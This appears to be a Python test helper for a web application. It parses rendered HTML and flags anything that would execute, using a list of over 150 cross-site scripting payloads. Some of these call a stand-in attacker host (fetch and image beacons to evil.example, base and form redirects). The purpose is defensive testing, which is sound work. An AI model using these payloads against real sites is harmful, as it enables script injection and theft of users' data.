"""Pages as a browser reads them: their elements and their words, and what must never be in one."""

from __future__ import annotations

from html.parser import HTMLParser

# Ways to have a browser run a customer's words, for every place where words can stand in a page.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<style>@import 'javascript:alert(1)'</style>",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<mark><script>alert(1)</script></mark>",
    "<form action=//evil.example><button>x",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "\u202e<script>alert(1)</script>",
)  # fmt: skip
_ACTS = (  # what a page would show or load if it ran them
    "alert(1)",
    "confirm(2)",
    "prompt(3)",
    "fetch('//evil.example/4')",
    "new Image().src='//evil.example/5'",
)
_PLACES = (  # further places than those of PAYLOADS
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xss contenteditable autofocus onfocus=alert(1)>",
)
HOSTILE = tuple(  # each place with each act: more than 150
    dict.fromkeys(one.replace("alert(1)", act) for one in (*PAYLOADS, *_PLACES) for act in _ACTS)
)
_NEVER = {"iframe", "img", "base", "object", "embed", "math", "style", "foreignobject"}
_ADDRESSES = {"href", "src", "action", "formaction", "srcdoc"}


class Page(HTMLParser):
    """A page, parsed."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.words: list[str] = []
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep an element."""
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        """Keep words."""
        self.words.append(data)

    @property
    def text(self) -> str:
        """All that is read, with the values of fields."""
        values = [attrs.get("value", "") for _, attrs in self.elements]
        return " ".join(" ".join([*self.words, *values]).split())

    def named(self, tag: str, **attributes: str) -> list[dict[str, str]]:
        """The attributes of the elements with this tag and these attributes."""
        return [
            attrs
            for name, attrs in self.elements
            if name == tag and all(attrs.get(key) == value for key, value in attributes.items())
        ]

    def runs(self) -> list[str]:
        """What in the page would run: nothing but our own script may."""
        found = [f"<{tag}>" for tag, _ in self.elements if tag in _NEVER]
        found += [str(attrs) for attrs in self.named("script") if "/static/" not in attrs.get("src", "")]
        for tag, attrs in self.elements:
            found += [f"<{tag} {name}>" for name in attrs if name.startswith("on") or name == "style"]
            found += [
                f"<{tag} {name}={attrs[name]}>"
                for name in _ADDRESSES & attrs.keys()
                if not attrs[name].startswith(("/", "#", "?")) or attrs[name].startswith("//")
            ]
        return found + [str(attrs) for attrs in self.named("meta") if "http-equiv" in attrs]


def flat(text: str) -> str:
    """Words as `Page.text` has them."""
    return " ".join(text.split())
